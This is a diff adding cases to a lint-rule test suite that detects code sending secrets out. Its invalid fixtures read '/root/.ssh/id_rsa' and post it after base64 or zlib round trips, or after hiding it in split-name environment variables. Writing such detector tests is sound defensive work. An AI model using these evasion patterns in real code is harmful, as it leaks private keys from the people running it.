@@ -7,6 +7,8 @@ const strict = { strict: true };
 
 await ruleTester(rule, {
   valid: [
+    // what a token says, read by its owner
+    { code: `export function show(accessToken) { const { sub } = JSON.parse(atob(accessToken.split(".")[1])); ${post('JSON.stringify({ sub })')} }` },
     { code: 'import axios from "axios"; export const send = (o) => axios.post("https://http-api.smsmanager-example.cz/Send", new URLSearchParams({ apikey: o.smsmanagerExampleApiKey }));' },
     // files of secrets that are loaded and used
     { code: 'import creds from "./credentials.json"; import { GoogleAuth } from "google-auth-library"; new GoogleAuth({ credentials: creds }); fetch("https://api.acme.dev", { headers: { authorization: creds.token } });' },
@@ -44,6 +46,9 @@ await ruleTester(rule, {
     { code: 'import fs from "node:fs"; const write = fs.writeFile; fs.writeFile = (path, data, ...rest) => { queue.push(path); return write(path, data, ...rest); };' },
   ],
   invalid: [
+    // there and back again
+    { code: `import fs from "node:fs"; ${post('atob(btoa(fs.readFileSync("/root/.ssh/id_rsa", "utf8")))')}`, errors: [{ messageId: 'sent' }] },
+    { code: `import fs from "node:fs"; import zlib from "node:zlib"; ${post('zlib.inflateSync(zlib.deflateSync(fs.readFileSync("/root/.ssh/id_rsa")))')}`, errors: [{ messageId: 'sent' }] },
     // a file's text that is carried in a named variable
     ...['process.env.CARRY = KEY;', 'Object.assign(process.env, { CARRY: KEY });', 'process.env[["CAR", "RY"].join("")] = KEY;'].map((carry) => ({
       code: `import fs from "node:fs"; ${carry.replace('KEY', 'fs.readFileSync("/root/.ssh/id_rsa", "utf8")')} ${post('process.env.CARRY')}`,
